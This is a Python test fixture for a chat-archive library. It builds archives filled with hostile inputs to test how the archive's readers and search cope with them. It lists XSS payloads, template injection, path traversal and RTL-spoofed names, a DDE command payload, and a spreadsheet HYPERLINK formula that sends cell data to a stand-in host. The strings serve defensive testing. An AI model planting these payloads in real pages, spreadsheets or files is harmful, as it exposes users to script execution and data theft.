"""Archives made of records that a test chooses, without an app."""

from __future__ import annotations

import hashlib
import sqlite3
from collections.abc import Callable, Generator
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Self, TypeVar

from beeper_async.archive import Archive
from beeper_async.archive.reading.search import update_index
from beeper_async.archive.storage.records import read_chat
from beeper_async.archive.storage.writes import RunWrites

T = TypeVar("T")
DAY = "2026-05-05"

# What people and programs send that is meant to break a page, a table or a search.
HOSTILE = (
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title = 'owned'\">",
    '<a href="javascript:document.title=1">click</a>',
    '<a href="https://example.org/" onclick="document.title = 1">fine</a>',
    '"><svg onload=alert(1)><b>bold',
    "</article></main></body><h1>gone</h1>",
    "<!-- comment --> ]]> <?php ?> {{7*7}} ${x} `rm`",
    "half \ufffd of an emoji",
    "\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u200f",
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1)",
    'quotes " and ; and , and\r\nlines\rand\ttabs',
    "# no heading\n- no list\n> no quote\n```\nno code\n[no](javascript:link) ![no](x)",
    "\x00\x01\x1b[31m control",
    "",
    "   ",
    "</script><!--<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3c;b&#x3e;",
)
NAMES = (
    "../../x",
    "CON",
    "",
    "a\nb",
    "\U0001f389 party",
    "\u202eevil",
    "index",
    "files",
    "x" * 300,
)


class Shelf:
    """An archive and what writes to it.

    Args:
        folder: The folder of the archive.
    """

    def __init__(self, folder: Path) -> None:
        self.archive = Archive.open(folder)
        self._messages = 0
        self._numbers: dict[str, int] = {}
        self.next_run()

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *error: object) -> None:
        self.archive.close()

    def next_run(self) -> None:
        """Begin the next run."""

        def begin(connection: sqlite3.Connection) -> RunWrites:
            run = connection.execute("select coalesce(max(run), 0) + 1 from runs").fetchone()[0]
            values = (run, 1_770_000_000_000 + run, "full")
            connection.execute("insert into runs (run, started, sweep) values (?, ?, ?)", values)
            return RunWrites(connection, run)

        self.writes = self.write(begin)

    def write(self, function: Callable[[sqlite3.Connection], T]) -> T:
        """Run a function in a transaction."""
        return self.archive._database.run_here(function)

    def sql(self, statement: str, *values: Any) -> list[tuple[Any, ...]]:
        """Run a statement in a transaction."""
        return self.write(lambda connection: connection.execute(statement, values).fetchall())

    def chat(self, title: str = "Hiking club", **fields: Any) -> str:
        """Store a chat; return its ID."""
        number = len(self._numbers) + 1
        people = [
            {"id": "@ana:local", "fullName": "Ana"},
            {"id": "@tomas:local", "fullName": "Tomas"},
            {"id": "@me:local", "fullName": "Me", "isSelf": True},
        ]
        raw: dict[str, Any] = {
            "id": f"!chat{number}:local",
            "localChatID": str(number),
            "accountID": "whatsapp",
            "network": "WhatsApp",
            "title": title,
            "type": "group",
            "unreadCount": 0,
            "participants": {"hasMore": False, "items": people, "total": 3},
            "lastActivity": f"{DAY}T10:{number:02}:00.000Z",
            **fields,
        }
        record = read_chat(raw)
        assert record is not None
        self._numbers[raw["id"]] = self.write(lambda c: self.writes.chats.write(c, record))
        return str(raw["id"])

    def number(self, chat: str) -> int:
        """Return the number of a chat."""
        return self._numbers[chat]

    def message(self, chat: str, text: str | None = "Hello", **fields: Any) -> dict[str, Any]:
        """Store a message; return its JSON."""
        self._messages += 1
        n = self._messages
        raw: dict[str, Any] = {
            "id": f"{1000 + n}",
            "accountID": "whatsapp",
            "chatID": chat,
            "senderID": "@ana:local",
            "senderName": "Ana",
            "sortKey": f"{5000 + n}",
            "timestamp": f"{DAY}T{10 + n // 3600 % 12:02}:{n // 60 % 60:02}:{n % 60:02}.000Z",
            "type": "TEXT",
            "text": text,
            **fields,
        }
        self.store(chat, raw)
        return raw

    def store(self, chat: str, *items: dict[str, Any]) -> None:
        """Store messages as if they had been served again."""
        self.write(lambda c: self.writes.messages.write(c, self.number(chat), items))

    def delete(self, chat: str, raw: dict[str, Any]) -> None:
        """Store what an app serves of a message that its sender deleted."""
        self.store(chat, {**raw, "text": None, "isDeleted": True, "attachments": None})

    def mark(self, raw: dict[str, Any], kind: str = "vanished") -> None:
        """Mark a message as vanished or expired."""
        n = self.number_of(raw)
        mark = self.writes.messages.vanished if kind == "vanished" else self.writes.messages.expired
        self.write(lambda c: mark(c, [n]))

    def number_of(self, raw: dict[str, Any]) -> int:
        """Return the number of a message."""
        return int(self.sql("select n from messages where id = ?", raw["id"])[0][0])

    def file(self, url: str, content: bytes, mime: str = "image/png") -> str:
        """Have the file of an attachment; return its hash."""
        sha256 = hashlib.sha256(content).hexdigest()
        path = self.archive.folder / "files" / sha256[:2] / sha256
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        values = (sha256, len(content), mime, url)
        query = "update files set state = 'have', sha256 = ?, size = ?, mime = ? where url = ?"
        self.sql(query, *values)
        return sha256

    def index(self) -> None:
        """Bring the search index up to date."""
        self.write(update_index)
        self.writes = self.write(lambda connection: RunWrites(connection, self.writes.run))

    def without_full_text_search(self) -> None:
        """Make the archive what it is where SQLite has no full-text search."""
        self.sql("drop table if exists search")


@contextmanager
def hostile(folder: Path) -> Generator[Shelf]:
    """Give an archive full of what is meant to break its readers."""
    with Shelf(folder) as shelf:
        for name in NAMES:
            chat = shelf.chat(name)
            for text in HOSTILE:
                shelf.message(chat, text, senderName=name, senderID=f"@{name}:local"[:200])
        long = shelf.chat("Nulls and more")
        shelf.message(long, "word " * 200_000)
        shelf.message(long, None, senderName=None, type=None, attachments=None, reactions=None)
        shelf.message(long, "see", links=[{"title": HOSTILE[0], "url": "javascript:1"}])
        shelf.message(
            long,
            None,
            type="FILE",
            attachments=[
                {"type": "unknown", "id": f"mxc://local/{n}", "fileName": name}
                for n, name in enumerate((*NAMES, *HOSTILE))
            ],
            reactions=[
                {"id": text, "participantID": "@x", "reactionKey": text} for text in HOSTILE
            ],
        )
        yield shelf
